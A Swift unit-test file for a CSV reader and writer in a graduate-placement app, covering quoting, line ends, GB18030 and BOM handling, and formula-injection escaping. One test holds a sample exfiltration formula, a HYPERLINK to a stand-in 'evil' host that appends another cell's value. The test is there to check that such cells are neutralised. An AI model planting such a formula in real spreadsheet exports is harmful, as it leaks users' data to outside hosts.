import Foundation
@testable import GradSyncPlacement
import Testing

/// The RFC 4180 reader and the Excel-friendly writer.
struct CSVTests {
    @Test func readerHandlesQuotesCommasAndLineEnds() throws {
        let records = try CSVReader.records(in: "a,\"b,c\",\"d\"\"e\"\r\n\"multi\nline\",x\rlast,\"\"")
        #expect(records == [
            CSVRecord(line: 1, fields: ["a", "b,c", "d\"e"]),
            CSVRecord(line: 2, fields: ["multi\nline", "x"]),
            CSVRecord(line: 4, fields: ["last", ""]),
        ])
    }

    @Test func readerSkipsBlankLinesAndEmptyExcelRows() throws {
        let records = try CSVReader.records(in: "h1,h2\r\n\r\n,\r\nv1,v2\r\n")
        #expect(records.map(\.line) == [1, 4])
    }

    @Test func readerRefusesTextAfterAClosingQuote() {
        #expect(throws: CSVFormatError(line: 1, reason: "第 1 行的字段在右引号后还有文字")) {
            try CSVReader.records(in: "\"a\"b,c")
        }
    }

    @Test func writerQuotesOnlyWhatNeedsIt() {
        #expect(CSVWriter.text([["a", "b,c", "d\"e", "f\r\ng", " h"]]) == "a,\"b,c\",\"d\"\"e\",\"f\r\ng\",\" h\"\r\n")
    }

    @Test func cellsThatWouldBeFormulasGetAnApostrophe() {
        let hyperlink = "=HYPERLINK(\"http://evil/?\"&B2,\"点击\")"
        #expect(CSVWriter.text([[hyperlink]]) == "\"'=HYPERLINK(\"\"http://evil/?\"\"&B2,\"\"点击\"\")\"\r\n")
        #expect(CSVWriter.text([["+1", "-3", "@SUM(A1)", "\tx", "\rx", "=1"]]) == "'+1,'-3,'@SUM(A1),'\tx,\"'\rx\",'=1\r\n")
        #expect(CSVWriter.text([["1-3", "a=b", " =1", "2025-06-01", "0", "85.71", "'"]]) == "1-3,a=b,\" =1\",2025-06-01,0,85.71,'\r\n")
    }

    @Test func writtenCSVReadsBackUnchanged() throws {
        let rows = [["学号", "单位名称"], ["001", "厦门\"星辰\",科技\r\n有限公司"]]
        let records = try CSVReader.records(in: CSVWriter.text(rows))
        #expect(records.map(\.fields) == rows)
    }

    @Test func utf8ExportStartsWithAByteOrderMarkAndGB18030RoundTrips() throws {
        let utf8 = try #require(CSVWriter.data([["姓名"], ["吴𠮷"]]))
        #expect(Array(utf8.prefix(3)) == TextEncoding.byteOrderMark)
        let gb = try #require(CSVWriter.data([["姓名"], ["吴𠮷"]], encoding: .gb18030))
        #expect(Array(gb.prefix(4)) == [0xD0, 0xD5, 0xC3, 0xFB])
        #expect(TextEncoding.detect(gb) == .gb18030)
        #expect(TextEncoding.gb18030.decode(gb) == "姓名\r\n吴𠮷\r\n")
    }

    @Test func invalidGB18030IsRefused() {
        #expect(TextEncoding.gb18030.decode(Data([0x81])) == nil)
        #expect(TextEncoding.gb18030.decode(Data()) == "")
    }
}
